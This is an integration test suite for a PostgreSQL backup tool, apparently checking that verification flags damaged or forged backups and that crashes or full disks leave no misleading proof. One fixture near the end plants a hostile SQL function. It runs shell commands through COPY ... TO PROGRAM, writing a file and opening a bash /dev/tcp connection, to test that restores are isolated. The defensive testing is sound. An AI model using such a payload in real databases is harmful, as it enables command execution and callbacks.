"""A damaged backup is never proven, a sound one never called damaged, and verifying harms nothing."""

from __future__ import annotations

import copy
import json
import os
import secrets
import shutil
import signal
import socket
import struct
import tempfile
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import psutil
import pytest

from backstop.commands.database import load
from backstop.commands.proof import dump as verify
from backstop.crypto.keyring import LocalKeyring
from backstop.crypto.signing import Signer, create_signing_keys
from backstop.errors import BackstopError, IntegrityError, KeyUnavailableError, ScratchError, StorageFullError
from backstop.model.backup import BackupLabel
from backstop.model.canonical import canonical_json, sha256_hex
from backstop.postgres import databases
from backstop.storage.posix import PosixStorage
from tests.faults.planting import (
    Forked,
    Gate,
    SmallDisk,
    assert_nothing_left,
    fill,
    flip,
    in_background,
    rows,
)
from tests.faults.s3_proxy import wait_until
from tests.protection import Protection, protect, utc_now

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from backstop.model.backup import Manifest, StoredObject
    from backstop.model.proof import Proof
    from backstop.postgres.connection import ClusterConnection
    from embedded.postgres import EmbeddedPostgres

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("damaged_backup")]

MIB = 1024 * 1024
SDK_FRAME_BYTES = 4 + 12 + MIB + 16  # sequence number, IV, content, tag


@pytest.fixture(scope="module")
def taken(postgres18: EmbeddedPostgres) -> Iterator[tuple[Protection, str]]:
    """One sound backup, which every test gets a copy of."""
    folder = Path(tempfile.mkdtemp(prefix="backstop-"))
    name = f"test_{secrets.token_hex(6)}"
    with postgres18.connect() as session:
        session.execute(f"CREATE DATABASE {name} TEMPLATE template0")
    protection = protect(folder, postgres18.connection(name))
    fill(protection.source)
    yield protection, protection.back_up().label
    with postgres18.connect() as session:
        session.execute(f"DROP DATABASE {name} WITH (FORCE)")
    shutil.rmtree(folder)


@dataclass
class Backup:
    """A backup in a repository of its own that may be damaged."""

    protection: Protection
    label: str

    @property
    def root(self) -> Path:
        return self.protection.folder / "repository"

    @property
    def manifest(self) -> Manifest:
        return self.protection.repository("local").catalog.backup(BackupLabel(self.label)).manifest

    @property
    def manifest_path(self) -> Path:
        return self.root / self.protection.target / "meta" / "manifests" / f"{self.label}.json"

    @property
    def largest(self) -> StoredObject:
        return max(self.manifest.objects, key=lambda stored: stored.stored_bytes)

    def path(self, stored: StoredObject) -> Path:
        return self.root / stored.key

    def prove(self, **changes: Any) -> Proof:
        return self.protection.prove(self.label, **changes)

    def proofs(self) -> list[Path]:
        return list((self.root / self.protection.target / "meta").glob("proofs/**/*.json"))

    def sign(self, manifest: Manifest, signer: Signer | None = None) -> None:
        """Put this manifest in the place of the one that is there."""
        signed = (signer or self.protection.manifest_signer).sign(manifest)
        self.manifest_path.write_bytes(canonical_json(signed.to_dict()))


@pytest.fixture
def backup(taken: tuple[Protection, str], folder: Path) -> Backup:
    original, label = taken
    protection = copy.copy(original)
    protection.folder = folder
    shutil.copytree(original.folder / "repository", folder / "repository")
    protection.storages = {"local": PosixStorage(folder / "repository")}
    protection.verify = replace(original.verify, scratch=folder / "staging")
    return Backup(protection, label)


# -- Stored bytes --------------------------------------------------------------------------------------------


def frame_boundary(path: Path) -> int:
    """Where the final frame of a message begins: everything before it is whole frames."""
    body = path.read_bytes()
    number = len(body) // SDK_FRAME_BYTES + 1
    at = body.rfind(b"\xff\xff\xff\xff" + struct.pack(">I", number))
    assert at > SDK_FRAME_BYTES, "the object has one frame only"
    return at


def cut(path: Path, at: int) -> None:
    path.write_bytes(path.read_bytes()[:at])


def flip_one_bit(backup: Backup) -> StoredObject:
    flip(backup.path(backup.largest))
    return backup.largest


def flip_one_bit_of_the_wrapped_key(backup: Backup) -> StoredObject:
    path = backup.path(backup.largest)
    flip(path, at=path.read_bytes().index(b"backstop-local") + 20)
    return backup.largest


def truncate(backup: Backup) -> StoredObject:
    cut(backup.path(backup.largest), backup.largest.stored_bytes // 2)
    return backup.largest


def truncate_at_a_frame(backup: Backup) -> StoredObject:
    path = backup.path(backup.largest)
    cut(path, frame_boundary(path))
    return backup.largest


def truncate_at_a_frame_and_say_so_in_the_manifest(backup: Backup) -> StoredObject:
    """What a writer would publish that takes a cut upload for whole."""
    stored, path = backup.largest, backup.path(backup.largest)
    cut(path, frame_boundary(path))
    body = path.read_bytes()
    short = replace(stored, stored_bytes=len(body), stored_sha256=sha256_hex(body))
    others = tuple(other for other in backup.manifest.objects if other != stored)
    backup.sign(replace(backup.manifest, objects=(*others, short)))
    return short


def swap_two(backup: Backup) -> StoredObject:
    first, second = backup.manifest.object_named("globals.sql"), backup.manifest.object_named("toc.dat")
    one, two = backup.path(first).read_bytes(), backup.path(second).read_bytes()
    backup.path(first).write_bytes(two)
    backup.path(second).write_bytes(one)
    return first


def swap_two_and_say_so_in_the_manifest(backup: Backup) -> StoredObject:
    """Sizes and hashes agree; only what the ciphertext itself is bound to does not."""
    first, second = backup.manifest.object_named("globals.sql"), backup.manifest.object_named("toc.dat")
    swap_two(backup)
    swapped = (replace(first, key=second.key), replace(second, key=first.key))
    others = tuple(other for other in backup.manifest.objects if other not in (first, second))
    backup.sign(replace(backup.manifest, objects=(*others, *swapped)))
    return first


def delete_one(backup: Backup) -> StoredObject:
    backup.path(backup.largest).unlink()
    return backup.largest


@pytest.mark.parametrize(
    "damage",
    [
        flip_one_bit,
        flip_one_bit_of_the_wrapped_key,
        truncate,
        truncate_at_a_frame,
        truncate_at_a_frame_and_say_so_in_the_manifest,
        swap_two,
        swap_two_and_say_so_in_the_manifest,
        delete_one,
    ],
)
def test_a_damaged_backup_gets_a_proof_that_says_so_and_names_the_object(
    backup: Backup, damage: Callable[[Backup], StoredObject]
):
    stored = damage(backup)

    proof = backup.prove()

    assert not proof.matched
    (difference,) = proof.differences
    folder = stored.key.rpartition("/")[0]
    assert stored.key in difference or folder in difference
    assert " — " in difference  # the next step
    assert proof.durations.keys() == {"fetch", "total"}  # nothing of it was run
    assert len(backup.proofs()) == 1
    assert_nothing_left(backup.protection)


# -- Manifests -----------------------------------------------------------------------------------------------


def from_another_target(backup: Backup) -> None:
    # Signed by a key we trust, for another target in the same repository.
    backup.sign(replace(backup.manifest, target="payroll"))


def of_another_backup(backup: Backup) -> None:
    backup.sign(replace(backup.manifest, label=BackupLabel("20250101T010000Z-dump")))


def from_another_repository(backup: Backup) -> None:
    backup.sign(replace(backup.manifest, repository_id="0123456789abcdef"))


def edited(backup: Backup) -> None:
    document = json.loads(backup.manifest_path.read_bytes())
    document["objects"] = document["objects"][:-1]  # a backup with less in it
    backup.manifest_path.write_bytes(canonical_json(document))


def unsigned(backup: Backup) -> None:
    document = json.loads(backup.manifest_path.read_bytes())
    document["signature"] = None
    backup.manifest_path.write_bytes(canonical_json(document))


def signed_by_a_stranger(backup: Backup) -> None:
    create_signing_keys(backup.protection.folder / "strangers")
    stranger = Signer.load(backup.protection.folder / "strangers" / "manifest.pem")
    backup.sign(backup.manifest, stranger)


def signed_by_the_verifier(backup: Backup) -> None:
    backup.sign(backup.manifest, backup.protection.proof_signer)


def cut_short(backup: Backup) -> None:
    cut(backup.manifest_path, 200)


@pytest.mark.parametrize(
    "forge",
    [
        from_another_target,
        of_another_backup,
        from_another_repository,
        edited,
        unsigned,
        signed_by_a_stranger,
        signed_by_the_verifier,
        cut_short,
    ],
)
def test_a_manifest_that_is_not_ours_is_refused_shown_and_never_restored_from(
    backup: Backup, forge: Callable[[Backup], None]
):
    forge(backup)

    with pytest.raises(IntegrityError, match=backup.label) as caught:
        backup.prove()

    assert caught.value.hint
    assert backup.proofs() == []
    listing = backup.protection.repository("local").catalog.backups()
    assert listing.backups == ()
    assert len(listing.unreadable) == 1
    with pytest.raises(IntegrityError):
        backup.protection.restore(backup.label, server=backup.protection.source).plan()
    assert_nothing_left(backup.protection)


def test_a_manifest_that_claims_objects_of_another_target_is_refused(backup: Backup):
    theirs = backup.root / "payroll" / "data" / "database"
    shutil.copytree(backup.root / "calibrify" / "data" / "database", theirs)
    elsewhere = tuple(
        replace(stored, key=stored.key.replace("calibrify/", "payroll/", 1))
        for stored in backup.manifest.objects
    )
    backup.sign(replace(backup.manifest, objects=elsewhere))

    proof = backup.prove()

    assert not proof.matched
    assert "payroll/data/database" in proof.differences[0]
    assert "is not below calibrify/data/" in proof.differences[0]


# -- What says nothing about the backup ----------------------------------------------------------------------


def test_for_want_of_the_right_key_nothing_is_recorded(backup: Backup, folder: Path):
    other = LocalKeyring.create(folder / "other.json", utc_now())

    with pytest.raises(KeyUnavailableError, match="no key of the ring opens") as caught:
        backup.prove(keyring=other)

    assert "bring that key" in caught.value.hint
    assert backup.manifest.keys[0] in str(caught.value)
    assert backup.proofs() == []
    assert_nothing_left(backup.protection)


@pytest.fixture
def gate(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Gate]:
    """In front of the pg_restore that loads."""
    gate = Gate(folder / "bin", program="pg_restore", argument="--dbname=")
    real = load.pg_restore_argv
    monkeypatch.setattr(load, "pg_restore_argv", lambda *a, **k: [str(gate.path), *real(*a, **k)[1:]])
    yield gate
    gate.open()


def servers_in(folder: Path) -> list[psutil.Process]:
    """Scratch servers that keep their data below this folder."""
    found = []
    for process in psutil.process_iter(["name", "cmdline"]):
        if process.info["name"] == "postgres" and any(
            str(folder) in one for one in process.info["cmdline"] or ()
        ):
            found.append(process)
    return found


@pytest.mark.parametrize("victim", ["pg_restore", "the scratch server"])
def test_a_program_killed_while_it_restores_says_nothing_about_the_backup(
    backup: Backup, gate: Gate, victim: str
):
    proving = in_background(backup.prove)
    gate.await_arrival()
    if victim == "pg_restore":
        os.kill(gate.arrivals()[0], signal.SIGKILL)
    else:
        for process in servers_in(backup.protection.folder):
            os.kill(process.pid, signal.SIGKILL)
        gate.open()

    with pytest.raises(BackstopError) as caught:
        proving.result(60)

    assert caught.value.hint
    assert backup.proofs() == []
    assert_nothing_left(backup.protection)


@pytest.mark.system
def test_a_disk_that_fills_up_while_restoring_says_nothing_about_the_backup(
    backup: Backup, gate: Gate, small_disk: SmallDisk
):
    small_disk.resize(300 * MIB)
    scratch = small_disk.path / "staging"
    proving = in_background(lambda: backup.prove(settings=replace(backup.protection.verify, scratch=scratch)))
    gate.await_arrival()
    small_disk.fill_up()
    gate.open()

    with pytest.raises(StorageFullError, match=str(small_disk.path)) as caught:
        proving.result(60)

    assert "free" in caught.value.hint
    assert backup.proofs() == []
    assert list(scratch.iterdir()) == []


def test_a_locale_that_this_machine_lacks_says_nothing_about_the_backup(
    backup: Backup, monkeypatch: pytest.MonkeyPatch
):
    real = databases.create_like

    def elsewhere(session: Any, name: str, properties: dict[str, Any], owner: str) -> None:
        real(session, name, {**properties, "collate": "tlh_QO.UTF-8"}, owner)

    monkeypatch.setattr(databases, "create_like", elsewhere)

    with pytest.raises(ScratchError, match="tlh_QO") as caught:
        backup.prove()

    assert "install the locale" in caught.value.hint
    assert backup.proofs() == []
    assert_nothing_left(backup.protection)


def test_a_verification_killed_half_way_is_cleaned_up_by_the_next(backup: Backup, gate: Gate):
    worker = Forked(backup.prove)
    gate.await_arrival()
    assert servers_in(backup.protection.folder) != []
    worker.kill()
    wait_until(lambda: servers_in(backup.protection.folder) == [])
    left = list((backup.protection.folder / "staging").iterdir())
    assert left != []
    gate.open()

    assert backup.prove().matched

    assert len(backup.proofs()) == 1
    assert not any(path.exists() for path in left)
    assert_nothing_left(backup.protection)
    assert servers_in(backup.protection.folder) == []


# -- What differs --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ("UPDATE public.equipment SET name = 'forged' WHERE id = 7", "public.equipment"),
        ("DELETE FROM public.measurements WHERE ctid = '(0,1)'", "public.measurements"),
        ("SELECT setval('public.equipment_id_seq', 299)", "public.equipment_id_seq"),
        ("ALTER TABLE public.certificates ALTER COLUMN scan SET NOT NULL", "public.certificates"),
    ],
)
def test_a_copy_that_differs_in_one_thing_fails_and_names_it(
    backup: Backup, monkeypatch: pytest.MonkeyPatch, change: str, named: str
):
    real = verify.compare_restored

    def change_first(expected: Any, restored: ClusterConnection, **options: Any) -> list[str]:
        with restored.connect() as session:
            session.execute(change.encode())
        return real(expected, restored, **options)

    monkeypatch.setattr(verify, "compare_restored", change_first)

    proof = backup.prove()

    assert not proof.matched
    (difference,) = proof.differences
    assert named in difference
    assert "forged" not in difference
    assert_nothing_left(backup.protection)


# -- A hostile dump ------------------------------------------------------------------------------------------

HARMLESS = """
CREATE FUNCTION looks_fine(value int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';
CREATE TABLE trap (value int CHECK (looks_fine(value)));
INSERT INTO trap VALUES (1);
"""
HOSTILE = """
CREATE OR REPLACE FUNCTION looks_fine(value int) RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
    COPY (SELECT 'was here') TO PROGRAM 'cat > {outside}/touched; true';
    COPY (SELECT 'was here') TO PROGRAM 'bash -c "echo hello > /dev/tcp/127.0.0.1/{port}"; true';
    RETURN true;
END $trap$
"""


def test_a_hostile_dump_touches_nothing_outside_and_reaches_nobody(folder: Path, database: ClusterConnection):
    outside = folder / "outside"
    outside.mkdir()
    outside.chmod(0o777)
    (folder / "staging").mkdir(mode=0o711)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.3)
        fill(database, HARMLESS)
        fill(database, HOSTILE.format(outside=outside, port=listener.getsockname()[1]))
        protection = protect(folder, database)
        label = protection.back_up().label

        # What it would do: the trap is a real one.
        unguarded = replace(protection.verify, isolation="none")
        protection.prove(label, settings=unguarded)
        assert (outside / "touched").exists()
        listener.accept()[0].close()
        (outside / "touched").unlink()

        proof = protection.prove(label)

        assert list(outside.iterdir()) == []
        with pytest.raises(TimeoutError):
            listener.accept()
    assert proof.isolation.startswith("isolated")
    assert_nothing_left(protection)


def test_a_live_database_is_not_touched_by_any_of_this(taken: tuple[Protection, str]):
    protection, _ = taken

    assert rows(protection.source) == {"equipment": 300, "measurements": 2000, "certificates": 3500}
    with protection.source.connect() as session:
        names = session.execute(
            "SELECT datname FROM pg_database WHERE datname LIKE %s", [f"{protection.source.dbname}_%"]
        ).fetchall()
    assert names == []
